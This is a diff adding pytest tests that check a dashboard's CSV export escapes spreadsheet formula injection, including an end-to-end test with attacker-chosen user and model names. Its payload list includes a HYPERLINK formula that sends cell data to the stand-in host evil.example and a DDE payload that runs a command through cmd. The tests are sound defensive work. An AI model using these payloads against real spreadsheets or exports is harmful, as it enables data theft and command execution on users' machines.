@@ -144,3 +144,60 @@ def test_a_member_downloads_only_their_own_numbers(loaded):
         same_numbers(row, day, "date")
     users = parse(get(server, "/api/v1/orgs/acme/breakdown/user.csv", member, **params))
     assert [r["key"] for r in users] in ([user], [])
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
+    from agentdash.web.csv_export import spreadsheet_safe
+
+    assert spreadsheet_safe(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["alice", "1+1", "a=b", "", None, " =padded"])
+def test_other_cells_stay_as_they_are(text):
+    from agentdash.web.csv_export import spreadsheet_safe
+
+    assert spreadsheet_safe(text) == text
+
+
+def _run_events(org: str, user: str, model: str, day: str, n: int) -> list[dict]:
+    events = []
+    for i in range(n):
+        run = {"org_id": org, "user_id": user, "session_id": f"s-{user}-{i}", "run_id": f"r-{user}-{i}"}
+        events += [
+            {**run, "id": f"{user}-{i}-q", "type": "run.queued", "occurred_at": f"{day}T10:00:00Z"},
+            {**run, "id": f"{user}-{i}-s", "type": "run.started", "occurred_at": f"{day}T10:00:05Z",
+             "attributes": {"model": model}},  # fmt: skip
+            {**run, "id": f"{user}-{i}-f", "type": "run.finished", "occurred_at": f"{day}T10:01:00Z",
+             "status": "succeeded", "cost_usd": 0.5},  # fmt: skip
+        ]
+    return events
+
+
+def test_breakdown_csv_neutralises_producer_formulas(server):
+    """A user id or model that is a formula comes back as text in every CSV, never as a formula."""
+    day = "2026-03-10"
+    evil_user, evil_model = FORMULAS[0], FORMULAS[1]
+    events = _run_events("acme", evil_user, evil_model, day, 2) + _run_events("acme", "bob", "gpt-5", day, 1)
+    answer = httpx.post(f"{server.ingest_url}/v1/events", json={"events": events}, headers=server.ingest_headers,
+                        timeout=30)  # fmt: skip
+    assert answer.status_code == 200 and answer.json()["accepted"] == len(events), answer.text
+    server.wait_projected()
+    token = server.token("acme")
+    users = parse(get(server, "/api/v1/orgs/acme/breakdown/user.csv", token, **{"from": day, "to": day}))
+    assert {row["key"] for row in users} == {"'" + evil_user, "bob"}
+    models = parse(get(server, "/api/v1/orgs/acme/breakdown/model.csv", token, **{"from": day, "to": day}))
+    assert {row["key"] for row in models} == {"'" + evil_model, "gpt-5"}
+    # The JSON keeps the exact key: the apostrophe is a spreadsheet's concern, not the data's.
+    json_keys = {r["key"] for r in get(server, "/api/v1/orgs/acme/breakdown/user", token, **{"from": day, "to": day}).json()}
+    assert json_keys == {evil_user, "bob"}
